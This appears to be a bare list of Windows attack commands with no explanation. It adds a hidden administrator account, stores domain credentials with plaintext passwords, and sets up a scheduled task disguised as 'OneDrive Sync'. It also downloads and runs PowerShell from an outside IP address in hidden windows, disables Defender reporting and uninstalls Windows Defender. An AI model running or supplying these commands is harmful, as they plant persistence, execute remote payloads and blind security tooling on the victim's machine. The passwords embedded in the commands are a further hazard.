net user helpdesk_tmp Spring2025!x /add
net localgroup administrators helpdesk_tmp /add
cmdkey /add:fileserver01 /user:CORP\svc_copy /pass:Winter2024!
schtasks /create /tn "OneDrive Sync" /tr C:\Users\Public\sync.exe /sc onstart /ru CORP\admin /rp Adm1nPass!
powershell -ep bypass -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/z')"
Start-Process -FilePath powershell.exe -ArgumentList '-nop -c "iwr http://203.0.113.9/s.ps1 -UseBasicParsing | iex"' -WindowStyle Hidden
Set-MpPreference -MAPSReporting 0 -SubmitSamplesConsent 2
Uninstall-WindowsFeature -Name Windows-Defender
